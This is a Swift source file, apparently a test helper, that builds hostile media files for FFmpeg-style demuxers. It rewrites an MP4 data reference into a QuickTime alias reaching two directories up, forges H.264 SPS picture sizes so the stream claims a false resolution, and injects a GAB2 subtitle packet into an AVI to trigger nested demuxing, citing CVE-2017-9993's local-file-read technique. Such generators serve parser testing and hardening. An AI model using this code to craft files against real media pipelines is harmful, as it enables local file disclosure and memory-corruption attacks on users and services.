import Foundation

/// Patches media files made by the ffmpeg CLI into hostile ones.
enum MediaForge {
    // MARK: MP4 data references

    /// Replaces the first track's self-contained `url ` data reference (`moov/trak/mdia/minf/dinf/dref`) with a
    /// QuickTime alias record pointing at `target`, two directory levels up from the movie
    /// (`nlvl_from`/`nlvl_to` 2: a demuxer with data references on would open `<movie dir>/../<dir>/<file>`).
    /// The movie must have its `moov` after `mdat` (ffmpeg's default), so growing `moov` moves no sample.
    static func externalDataReference(mp4: Data, target: String) throws -> Data {
        var d = [UInt8](mp4)
        let path = ["moov", "trak", "mdia", "minf", "dinf", "dref", "url "]
        var offsets: [Int] = []
        var offset = 0, end = d.count, level = 0
        while level < path.count {
            guard offset + 8 <= end else { throw Failure("no \(path[level]) box") }
            let size = Int(be32(d, offset)), type = String(decoding: d[offset + 4..<offset + 8], as: UTF8.self)
            guard size >= 8 else { throw Failure("bad box size at \(offset)") }
            if type == path[level] {
                offsets.append(offset)
                end = offset + size
                offset += type == "dref" ? 16 : 8
                level += 1
            } else {
                offset += size
            }
        }
        let url = offsets.last!
        guard be32(d, url) == 12 else { throw Failure("the url box is not the 12-byte self-contained one") }
        let components = target.split(separator: "/")
        let file = Array(components.last!.utf8)
        var body = [UInt8](repeating: 0, count: 150)
        body[50] = UInt8(file.count)
        body.replaceSubrange(51..<51 + file.count, with: file)
        body[130] = 0; body[131] = 2  // nlvl_from
        body[132] = 0; body[133] = 2  // nlvl_to
        var absolute = Array(target.utf8)
        let length = absolute.count
        if absolute.count % 2 == 1 { absolute.append(0) }
        let record = [0, 2] + be16(UInt16(length)) + absolute + [0xFF, 0xFF, 0, 0]
        let alis = be32(UInt32(12 + body.count + record.count)) + Array("alis".utf8) + [0, 0, 0, 0] + body + record
        d.replaceSubrange(url..<url + 12, with: alis)
        let delta = UInt32(alis.count - 12)
        for o in offsets.dropLast() { d.replaceSubrange(o..<o + 4, with: be32(be32(d, o) + delta)) }
        return Data(d)
    }

    // MARK: H.264 picture size

    /// Rewrites the picture size in every SPS of an Annex B H.264 stream (baseline profile, as x264 writes it
    /// with `-profile:v baseline`), leaving the slices alone: the stream then *claims* `width`×`height`.
    static func h264ClaimingSize(annexB: Data, width: Int, height: Int) throws -> Data {
        let bytes = [UInt8](annexB)
        var starts: [Int] = []  // first byte of each NAL unit
        var i = 0
        while i + 3 <= bytes.count {
            if bytes[i] == 0, bytes[i + 1] == 0, bytes[i + 2] == 1 { starts.append(i + 3); i += 3 } else { i += 1 }
        }
        var out: [UInt8] = []
        var patched = 0
        for (n, start) in starts.enumerated() {
            var stop = n + 1 < starts.count ? starts[n + 1] - 3 : bytes.count
            while stop > start, bytes[stop - 1] == 0 { stop -= 1 }  // the next start code's leading zero
            var nal = Array(bytes[start..<stop])
            if let first = nal.first, first & 0x1F == 7 {
                nal = [first] + escape(try patchSPS(unescape(Array(nal.dropFirst())), width: width, height: height))
                patched += 1
            }
            out += [0, 0, 0, 1] + nal
        }
        guard patched > 0 else { throw Failure("no SPS found") }
        return Data(out)
    }

    private static func patchSPS(_ rbsp: [UInt8], width: Int, height: Int) throws -> [UInt8] {
        var r = BitReader(rbsp)
        var w = BitWriter()
        let profile = r.bits(8)
        guard [66, 77, 88].contains(profile) else { throw Failure("SPS profile \(profile): only baseline/main are handled") }
        w.put(profile, 8)
        w.put(r.bits(8), 8)  // constraint flags
        w.put(r.bits(8), 8)  // level
        w.ue(r.ue())  // seq_parameter_set_id
        w.ue(r.ue())  // log2_max_frame_num_minus4
        let pocType = r.ue()
        w.ue(pocType)
        if pocType == 0 {
            w.ue(r.ue())
        } else if pocType == 1 {
            throw Failure("pic_order_cnt_type 1 is not handled")
        }
        w.ue(r.ue())  // max_num_ref_frames
        w.put(r.bits(1), 1)  // gaps_in_frame_num_value_allowed_flag
        _ = r.ue(); _ = r.ue()  // the real size
        w.ue(width / 16 - 1)
        w.ue(height / 16 - 1)
        // The rest up to the stop bit, as it was.
        var lastOne = rbsp.count * 8 - 1
        while lastOne > r.position, (rbsp[lastOne / 8] >> (7 - UInt8(lastOne % 8))) & 1 == 0 { lastOne -= 1 }
        while r.position < lastOne { w.put(r.bits(1), 1) }
        w.put(1, 1)
        return w.bytes()
    }

    private static func unescape(_ b: [UInt8]) -> [UInt8] {
        var out: [UInt8] = []
        var zeros = 0
        for byte in b {
            if zeros >= 2 && byte == 3 { zeros = 0; continue }
            zeros = byte == 0 ? zeros + 1 : 0
            out.append(byte)
        }
        return out
    }

    private static func escape(_ b: [UInt8]) -> [UInt8] {
        var out: [UInt8] = []
        var zeros = 0
        for byte in b {
            if zeros >= 2 && byte <= 3 { out.append(3); zeros = 0 }
            out.append(byte)
            zeros = byte == 0 ? zeros + 1 : 0
        }
        return out
    }

    struct BitReader {
        let data: [UInt8]
        var position = 0
        init(_ data: [UInt8]) { self.data = data }
        mutating func bits(_ n: Int) -> Int {
            var v = 0
            for _ in 0..<n {
                let byte = position / 8 < data.count ? data[position / 8] : 0
                v = v << 1 | Int((byte >> (7 - UInt8(position % 8))) & 1)
                position += 1
            }
            return v
        }
        mutating func ue() -> Int {
            var zeros = 0
            while bits(1) == 0 && zeros < 32 { zeros += 1 }
            return (1 << zeros) - 1 + bits(zeros)
        }
    }

    struct BitWriter {
        private var bitsOut: [UInt8] = []
        mutating func put(_ value: Int, _ n: Int) {
            for k in stride(from: n - 1, through: 0, by: -1) { bitsOut.append(UInt8((value >> k) & 1)) }
        }
        mutating func ue(_ value: Int) {
            let v = value + 1
            let length = Int.bitWidth - v.leadingZeroBitCount
            put(0, length - 1)
            put(v, length)
        }
        func bytes() -> [UInt8] {
            var out: [UInt8] = []
            var i = 0
            while i < bitsOut.count {
                var byte: UInt8 = 0
                for k in 0..<8 { byte = byte << 1 | (i + k < bitsOut.count ? bitsOut[i + k] : 0) }
                out.append(byte)
                i += 8
            }
            return out
        }
    }

    // MARK: AVI with a GAB2 subtitle

    /// Adds a subtitle stream (`strh` type `txts`) to an AVI made by ffmpeg, whose one packet (`01tx`, indexed
    /// in `idx1`) is a GAB2 subtitle container holding `file`: FFmpeg's AVI demuxer probes what a GAB2 packet
    /// holds and opens it with a nested demuxer — the way CVE-2017-9993 made an AVI read an HLS playlist
    /// (and through it, local files). The video stream must be stream 0 and the AVI have an `idx1`.
    static func aviWithGAB2(avi: Data, file: Data) throws -> Data {
        let b = [UInt8](avi)
        guard b.count > 12, Array(b[0..<4]) == [UInt8]("RIFF".utf8), Array(b[8..<12]) == [UInt8]("AVI ".utf8) else { throw Failure("not an AVI") }
        // The GAB2 packet: "GAB2\0", version 2, a UTF-16 description, type 4, the file.
        let desc: [UInt8] = [UInt16]("sub".utf16).flatMap { [UInt8($0 & 255), UInt8($0 >> 8)] } + [0, 0]
        let packet: [UInt8] = [UInt8]("GAB2".utf8) + [0] + le16(2) + le32(UInt32(desc.count)) + desc + le16(4)
            + le32(UInt32(file.count)) + [UInt8](file)
        var strh: [UInt8] = [UInt8]("txts".utf8) + le32(0) + le32(0) + le16(0) + le16(0) + le32(0)
        strh += le32(1) + le32(1000) + le32(0) + le32(1) + le32(0) + le32(UInt32(bitPattern: -1)) + le32(0) + [UInt8](repeating: 0, count: 8)
        let strl: [UInt8] = [UInt8]("strl".utf8) + chunk("strh", strh) + chunk("strf", [])

        var out: [UInt8] = []
        var offset = 12, moviChunkOffset: Int?, sawIndex = false
        while offset + 8 <= b.count {
            let id = String(decoding: b[offset..<offset + 4], as: UTF8.self), size = Int(le32(b, offset + 4))
            guard offset + 8 + size <= b.count else { throw Failure("chunk \(id) runs past the end") }
            var data = Array(b[offset + 8..<offset + 8 + size])
            let list = id == "LIST" && data.count >= 4 ? String(decoding: data[0..<4], as: UTF8.self) : ""
            if list == "hdrl" {
                // One more stream in avih; the new strl after the last one.
                var inner = 4, lastStrl: Int?
                while inner + 8 <= data.count {
                    let cid = String(decoding: data[inner..<inner + 4], as: UTF8.self), csize = Int(le32(data, inner + 4))
                    if cid == "avih" {
                        let streams = le32(data, inner + 8 + 24) + 1
                        data.replaceSubrange(inner + 8 + 24..<inner + 8 + 28, with: le32(streams))
                    }
                    if cid == "LIST", String(decoding: data[inner + 8..<inner + 12], as: UTF8.self) == "strl" {
                        lastStrl = inner + 8 + csize + (csize & 1)
                    }
                    inner += 8 + csize + (csize & 1)
                }
                guard let at = lastStrl else { throw Failure("no strl in hdrl") }
                data.insert(contentsOf: chunk("LIST", strl), at: at)
            } else if list == "movi" {
                moviChunkOffset = data.count
                data += chunk("01tx", packet)
            } else if id == "idx1" {
                guard let at = moviChunkOffset else { throw Failure("idx1 before movi") }
                data += [UInt8]("01tx".utf8) + le32(0x10) + le32(UInt32(at)) + le32(UInt32(packet.count))
                sawIndex = true
            }
            out += chunk(id, data)
            offset += 8 + size + (size & 1)
        }
        guard sawIndex, moviChunkOffset != nil else { throw Failure("the AVI has no movi list or idx1 index") }
        return Data([UInt8]("RIFF".utf8) + le32(UInt32(out.count + 4)) + [UInt8]("AVI ".utf8) + out)
    }

    private static func chunk(_ id: String, _ data: [UInt8]) -> [UInt8] {
        [UInt8](id.utf8) + le32(UInt32(data.count)) + data + (data.count & 1 == 1 ? [UInt8(0)] : [UInt8]())
    }
    private static func le32(_ d: [UInt8], _ o: Int) -> UInt32 {
        UInt32(d[o]) | UInt32(d[o + 1]) << 8 | UInt32(d[o + 2]) << 16 | UInt32(d[o + 3]) << 24
    }
    private static func le32(_ v: UInt32) -> [UInt8] { [UInt8(v & 255), UInt8(v >> 8 & 255), UInt8(v >> 16 & 255), UInt8(v >> 24)] }
    private static func le16(_ v: UInt16) -> [UInt8] { [UInt8(v & 255), UInt8(v >> 8)] }

    private static func be32(_ d: [UInt8], _ o: Int) -> UInt32 {
        UInt32(d[o]) << 24 | UInt32(d[o + 1]) << 16 | UInt32(d[o + 2]) << 8 | UInt32(d[o + 3])
    }
    private static func be32(_ v: UInt32) -> [UInt8] { [UInt8(v >> 24), UInt8(v >> 16 & 255), UInt8(v >> 8 & 255), UInt8(v & 255)] }
    private static func be16(_ v: UInt16) -> [UInt8] { [UInt8(v >> 8), UInt8(v & 255)] }
}
